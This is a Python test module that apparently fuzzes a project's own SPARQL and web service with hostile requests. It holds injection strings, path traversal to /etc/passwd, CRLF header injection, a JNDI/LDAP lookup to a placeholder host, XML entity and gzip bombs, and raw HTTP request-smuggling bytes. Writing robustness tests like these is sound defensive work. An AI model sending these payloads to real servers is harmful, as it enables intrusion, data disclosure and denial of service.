"""Attacks by requests: addresses, headers and bodies, and bytes that no HTTP library would send."""

from __future__ import annotations

import gzip
from dataclasses import dataclass, field
from urllib.parse import quote

from tests.service.attacks import FORM, many


@dataclass(frozen=True)
class Request:
    """One request through an HTTP library."""

    path: str
    method: str = "GET"
    body: bytes | None = None
    headers: dict[str, str] = field(default_factory=dict)


def post(body: bytes | str, kind: str, **headers: str) -> Request:
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    data = body.encode() if isinstance(body, str) else body
    return Request("/sparql", "POST", data, {"Content-Type": kind} | named)


def page(path: str, **headers: str) -> Request:
    return Request(path, headers={name.replace("_", "-"): value for name, value in headers.items()})


ASK = "/sparql?query=ASK%20%7B%7D"
QUESTION = "/questions/enablers-in-successful-partnerships"
ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9)
) + "]><x>&j;</x>"  # fmt: skip
INJECTED = (
    '"', "'", "\\", "}", "} UNION { ?s ?p ?o", "UNDEF } #", "<http://e/> } #", "> } SELECT * { ?s",
    "mandated,structural", "\r\nX-Evil: 1", "%", "\0", "é" * 300, "../../etc/passwd", "{nature}",
    "{{ 7*7 }}", "${jndi:ldap://CANARY/p}", "<script>alert(1)</script>", "any' OR '1'='1", "\U0001d54f",
)  # fmt: skip
REQUESTS: dict[str, Request] = {
    **{f"parameter: {value[:20]!r}": page(f"{QUESTION}.json?nature={quote(value, safe='')}")
       for value in INJECTED},
    **{f"search: {value[:20]!r}": page(f"/search?q={quote(value, safe='')}")
       for value in INJECTED[:6]},
    "parameter: a million letters": page(f"{QUESTION}?nature={'x' * 100_000}"),
    "parameter: the same often": page(f"{QUESTION}?" + many("nature=any", 2000, "&")),
    "parameter: a large number": page(f"{QUESTION}?why=" + "9" * 5000),
    "parameter: a number below none": page(f"{QUESTION}?why=-1"),
    "parameter: a number in other digits": page(f"{QUESTION}?why=" + quote("٣")),
    "parameter: no number": page(f"{QUESTION}?why=1e9"),
    "parameter: every page": page(f"{QUESTION}?page=99999999"),
    "slug: upwards": page("/questions/..%2f..%2f..%2fetc%2fpasswd.json"),
    "slug: a file": page("/questions/%00.json"),
    "slug: markup": page("/questions/<script>alert(1)</script>", Accept="text/html"),
    "file: upwards": page("/assets/../../src/partnering/errors.py"),
    "file: upwards, escaped": page("/assets/%2e%2e/%2e%2e/pyproject.toml"),
    "file: absolute": page("/assets//etc/passwd"),
    "file: backslashes": page("/assets/..%5c..%5cpyproject.toml"),
    "path: long": page("/" + "x" * 60_000),
    "path: deep": page("/a" * 20_000),
    "path: odd bytes": page("/%ff%fe/%c0%ae%c0%ae/"),
    "path: two slashes": page("//evil.example/%2f.."),
    "redirect: another line": page("/sparql?query=ASK%20%7B%7D%0d%0aX-Evil:%201", Accept="text/html"),
    "host: a label without end": page("/", Host="a" * 4000),
    "host: a part too long": page("/", Host="a" * 64 + ".example"),
    "host: odd letters": page("/", Host="ex\u00e4mple..\u00df"),
    "host: half an address": page("/", Host="[::1"),
    "host: a port past counting": page("/", Host="x:99999999999"),
    "host: with a name before": page("/", Host="admin:x@evil.example"),
    "format: another line": page(ASK + "&format=json%0d%0aX-Evil:%201"),
    "format: long": page(ASK + "&format=" + "x" * 50_000),
    "format: upwards": page(ASK + "&format=../../etc/passwd"),
    "dataset: outward": page(ASK + "&default-graph-uri=http://CANARY/q"),
    "dataset: outward, named": page(ASK + "&named-graph-uri=http://CANARY/r"),
    "dataset: a file": page(ASK + "&default-graph-uri=file:///etc/passwd"),
    "dataset: no IRI": page(ASK + "&default-graph-uri=%3E%20%7D"),
    "dataset: many": page(ASK + "&default-graph-uri=a:a" * 99),
    "fields: thousands": page("/sparql?" + many("a#=1", 5000, "&")),
    "fields: two queries": page(ASK + "&query=CLEAR+ALL"),
    "fields: an update": page("/sparql?update=CLEAR+ALL"),
    "text: half a character": page("/sparql?query=ASK%20%7B%7D%20%23%ED%A0%80"),
    "text: too long a way to write": page("/sparql?query=ASK%20%7B%7D%20%23%C0%AF"),
    "text: UTF-16": post("ASK {}".encode("utf-16"), "application/sparql-query"),
    "text: UTF-7": post("ASK {}", "application/sparql-query; charset=utf-7"),
    "body: too large": post("query=" + "x" * 2_000_000, FORM),
    "body: large in escapes": post("query=" + "%20" * 60_000, FORM),
    "body: gzip": post(gzip.compress(b"query=ASK+%7B%7D"), FORM, Content_Encoding="gzip"),
    "body: a gzip bomb": post(gzip.compress(b"\0" * 50_000_000), FORM, Content_Encoding="gzip"),
    "body: deflate": post(b"x\x9c", FORM, Content_Encoding="deflate"),
    "body: gzip twice": post(gzip.compress(gzip.compress(b"x")), FORM, Content_Encoding="gzip, gzip"),
    "body: of parts": post(b"--x\r\n" * 20_000 + b"--x--", "multipart/form-data; boundary=x"),
    "body: parts without a mark": post(b"x" * 9999, "multipart/form-data"),
    "body: entities": post(ENTITIES, "application/rdf+xml"),
    "body: entities as a query": post(ENTITIES, "application/sparql-query"),
    "body: JSON": post("[" * 50_000, "application/json"),
    "body: JSON-LD": post('{"@context":"http://CANARY/s"}', "application/ld+json"),
    "body: an update": post("LOAD <http://CANARY/t>", "application/sparql-update"),
    "body: on a page": Request("/cases", "POST", b"x" * 1000, {"Content-Type": FORM}),
    "body: on a GET": Request(ASK, "GET", b"query=CLEAR+ALL", {"Content-Type": FORM}),
    "method: OPTIONS of everything": Request("*", "OPTIONS"),
    "method: DELETE of a graph": Request("/graph/catalogue", "DELETE"),
    "method: PUT of a graph": Request("/graph/catalogue", "PUT", b"<a:a> <a:b> 1 .", {"Content-Type": "text/turtle"}),
    "method: PATCH of a thing": Request("/vocab/factor-trust", "PATCH", b"x"),
    "method: PUT": Request("/sparql", "PUT", b"x"),
    "method: TRACE": Request("/sparql", "TRACE"),
    "method: unknown": Request("/sparql", "BREW"),
    "method: said in a header": page(ASK, X_HTTP_Method_Override="DELETE"),
    "header: another host": page("/", Host="evil.example"),
    "header: a host with an end": page("/", Host="evil.example/../"),
    "header: forwarded": page("/", X_Forwarded_Host="evil.example", X_Forwarded_Proto="https",
                              Forwarded="for=1.2.3.4;host=evil.example"),
    "header: forwarded for whom": page(ASK, X_Forwarded_For="', DROP"),
    "header: another path": page("/", X_Original_URL="/etc/passwd", X_Rewrite_URL="/admin"),
    "header: accepts a lot": page(ASK, Accept=",".join(f"a/b{n};q=0.{n}" for n in range(5000))),
    "header: accepts without end": page(ASK, Accept=",".join(f"a/b{n};q=0.{n}" for n in range(300))),
    "header: accepts without end, of a thing": page("/vocab/factor-trust", Accept="a/b;q=0.1," * 9000),
    "header: accepts no number": page(ASK, Accept="text/csv;q=nan, */*;q=-1, x/y;q=1e999"),
    "header: accepts nonsense": page(ASK, Accept=";;;,,,===///"),
    "header: long": page(ASK, X_Long="x" * 100_000),
    "header: too long": page(ASK, X_Long="x" * 200_000),
    "header: many": page(ASK, **{f"X_{n}": "x" for n in range(90)}),
    "header: ranges": page("/assets/site.css", Range="bytes=" + many("0-1", 3000, ",")),
    "header: a range below none": page("/assets/site.css", Range="bytes=-99999999999999999999"),
    "header: tags": page("/cases", If_None_Match=",".join(f'"{n}"' for n in range(5000))),
    "header: ranges of a file": page("/downloads/partnering.nq", Range="bytes=" + many("#-#", 300, ",")),
    "header: a range from the end": page("/downloads/partnering.nq", Range="bytes=-9999999999999999"),
    "header: a range backwards": page("/downloads/partnering.nq", Range="bytes=9-1", If_Range='"x"'),
    "header: a date": page("/assets/site.css", If_Modified_Since="Mon, 99 Foo 99999 99:99:99 GMT"),
    "header: a cookie": page("/", Cookie="a=" + "x" * 50_000),
    "header: a secret": page("/", Authorization="Basic " + "A" * 5000),
    "header: upgrade": page(ASK, Connection="Upgrade, HTTP2-Settings", Upgrade="h2c"),
    "header: expects": page(ASK, Expect="100-continue"),
}  # fmt: skip

PLACES = (
    "/search?q=@", "/search?q=trust&kind=@", "/search?q=trust&case=@", "/search?q=trust&page=@",
    "/api/search?q=@", "/api/questions/timeline?case=@", "/api/questions/@",
    f"/api{QUESTION}?why=@", f"/api{QUESTION}?@=1", f"{QUESTION}?why=@", f"{QUESTION}?page=@",
    f"{QUESTION}?missing=factor&what=@", f"{QUESTION}?missing=@&what=trust", f"{QUESTION}?change=@",
    f"{QUESTION}.csv?rule=@", "/questions?tag=@", "/compare?cases=@", "/compare?group=@",
    "/map?by=@", "/around/factors/@", "/cases?nature=@", "/cases/@", "/factors/@", "/outcomes/@",
    "/actors/@", "/vocabulary/@", "/source/@", "/data/@", "/data/@/case.ttl", "/vocab/@",
    "/vocab/@.jsonld", "/graph/@", "/graph/@.nt", "/id/@", "/id/ptn:@", "/id/@:x", "/ontology/@",
    "/ontology.@", "/dataset.@", "/downloads/partnering.@", "/maintainers.@", "/query?query=@",
    "/query?example=@", "/sparql?query=ASK%7B%7D&format=@", "/sparql?query=ASK%7B%7D&@=1", "/?rule=@",
)  # fmt: skip
"""Addresses with a gap, ``@``, for what a stranger writes."""
WRITTEN = (*(quote(text, safe="") for text in (
    *INJECTED, "x" * 50_000, "9" * 4000, "-1", "0", "1e309", "NaN", "99999999999999999999", "a," * 9000,
    "case-a,case-a", "e\u0301" * 5000, "\u202e\u2066", "\uffff", "*", "NEAR(a b, 99999)", "a OR", "-",
    '"a" AND', "col:a", "(" * 900, "{{" * 900, "trust" * 900, "ttl", "..", ".", "~", "\uff54rust",
    "\n", "\t", "trust\0ttl", "http://CANARY/x", "http://e/> } #", "file:///etc/passwd", "../../../../etc/passwd",
)), "%", "%ED%A0%80", "%C0%AF", "%FF%FE", "%u0041", "a%2500b", "%0d%0aX-Evil:%201")  # fmt: skip
"""What is written into them, escaped."""

_HEAD = b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query\r\n"
_GET = b"GET /healthz HTTP/1.1\r\nHost: x\r\n"
_SMUGGLED = b"GET /evil HTTP/1.1\r\nHost: x\r\n\r\n"
BYTES: dict[str, bytes] = {
    "two lengths": _HEAD + b"Content-Length: 6\r\nContent-Length: 0\r\n\r\nASK {}" + _SMUGGLED,
    "two lengths in one": _HEAD + b"Content-Length: 6, 6\r\n\r\nASK {}",
    "length below none": _HEAD + b"Content-Length: -6\r\n\r\nASK {}",
    "length with a sign": _HEAD + b"Content-Length: +6\r\n\r\nASK {}",
    "length in other digits": _HEAD + "Content-Length: ٦\r\n\r\nASK {}".encode(),
    "length in hexadecimal": _HEAD + b"Content-Length: 0x6\r\n\r\nASK {}",
    "length past counting": _HEAD + b"Content-Length: " + b"9" * 400 + b"\r\n\r\nASK {}",
    "length and chunks": _HEAD + b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _SMUGGLED,
    "chunks": _HEAD + b"Transfer-Encoding: chunked\r\n\r\n6\r\nASK {}\r\n0\r\n\r\n",
    "chunks, misspelt": _HEAD + b"Transfer-Encoding: xchunked\r\n\r\n6\r\nASK {}\r\n0\r\n\r\n",
    "chunks, then plain": _HEAD + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    "chunks, by a tab": _HEAD + b"Transfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n",
    "chunks, before the colon": _HEAD + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "chunks without end": _HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 9000,
    "a chunk past counting": _HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"f" * 400 + b"\r\n",
    "a shorter body, then another request": _HEAD + b"Content-Length: 6\r\n\r\nASK {}" + _SMUGGLED,
    "chunks, twice": _HEAD + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + _SMUGGLED,
    "chunks, zipped": _HEAD + b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n" + _SMUGGLED,
    "chunks, folded": _HEAD + b"Transfer-Encoding:\r\n chunked\r\nContent-Length: 6\r\n\r\nASK {}" + _SMUGGLED,
    "chunks, by a vertical tab": _HEAD + b"Transfer-Encoding: \x0bchunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + _SMUGGLED,
    "chunks in HTTP/1.0": _HEAD.replace(b"1.1", b"1.0") + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + _SMUGGLED,
    "chunks with a note without end": _HEAD + b"Transfer-Encoding: chunked\r\n\r\n1;" + b"a" * 90_000,
    "chunks with a trailer": _HEAD + b"Transfer-Encoding: chunked\r\n\r\n0\r\nX-Evil: 1\r\n\r\n" + _SMUGGLED,
    "lengths with zeros": _HEAD + b"Content-Length: 0000000006\r\n\r\nASK {}",
    "lengths, one hidden": _HEAD + b"Content-Length: 6\r\nContent_Length: 0\r\n\r\nASK {}",
    "lengths on a page": _GET + b"Content-Length: 5\r\n\r\nhello" + _SMUGGLED.replace(b"evil", b"healthz"),
    "a hop that takes the length away": _HEAD + b"Connection: Content-Length\r\nContent-Length: 6\r\n\r\nASK {}",
    "a hundred queries, unread": (b"GET /sparql?query=SELECT%20*%20%7B%3Fa%20%3Fb%20%3Fc.%3Fd%20%3Fe%20%3Ff%7D HTTP/1.1\r\nHost: x\r\n\r\n") * 100,
    "headers by the thousand": _GET + b"".join(b"X-%d: y\r\n" % n for n in range(9000)) + b"\r\n",
    "headers of the same name": _GET + b"Accept: a/b\r\n" * 8000 + b"\r\n",
    "expecting what there is not": _HEAD + b"Expect: 200-maybe\r\nContent-Length: 6\r\n\r\nASK {}",
    "expecting for ever": _HEAD + b"Expect: 100-continue\r\nContent-Length: 190000\r\n\r\n",
    "line ends alone": _GET.replace(b"\r\n", b"\n") + b"\n",
    "carriage returns alone": _GET.replace(b"\r\n", b"\r") + b"\r",
    "a folded header": _GET + b"X-A: 1\r\n folded\r\n\r\n",
    "a header without a name": _GET + b": x\r\n\r\n",
    "a header without a colon": _GET + b"nothing\r\n\r\n",
    "a null in a header": _GET + b"X-A: a\0b\r\n\r\n",
    "no host": b"GET /healthz HTTP/1.1\r\n\r\n",
    "two hosts": _GET + b"Host: evil\r\n\r\n",
    "a whole address": b"GET http://CANARY/u HTTP/1.1\r\nHost: x\r\n\r\n",
    "a tunnel": b"CONNECT CANARY HTTP/1.1\r\nHost: x\r\n\r\n",
    "HTTP/0.9": b"GET /healthz\r\n\r\n",
    "HTTP/9.9": b"GET /healthz HTTP/9.9\r\n\r\n",
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "no path": b"GET  HTTP/1.1\r\nHost: x\r\n\r\n",
    "a null in the path": b"GET /\0 HTTP/1.1\r\nHost: x\r\n\r\n",
    "spaces in the path": b"GET / / HTTP/1.1\r\nHost: x\r\n\r\n",
    "a line without end": b"GET /" + b"x" * 300_000,
    "headers without end": _GET + b"X: y\r\n" * 30_000,
    "empty lines": b"\r\n" * 50_000,
    "nulls": b"\0" * 50_000,
    "a TLS greeting": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\xaa" * 500,
    "another protocol": b"SSH-2.0-x\r\n\r\n",
    "another protocol, asked for": _GET + b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
    "HTTP/2, asked for": _GET + b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
    "every server": b"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n",
    "an echo": b"TRACE / HTTP/1.1\r\nHost: x\r\nCookie: secret=1\r\n\r\n",
    "a hundred at once": (_GET + b"\r\n") * 100,
}  # fmt: skip
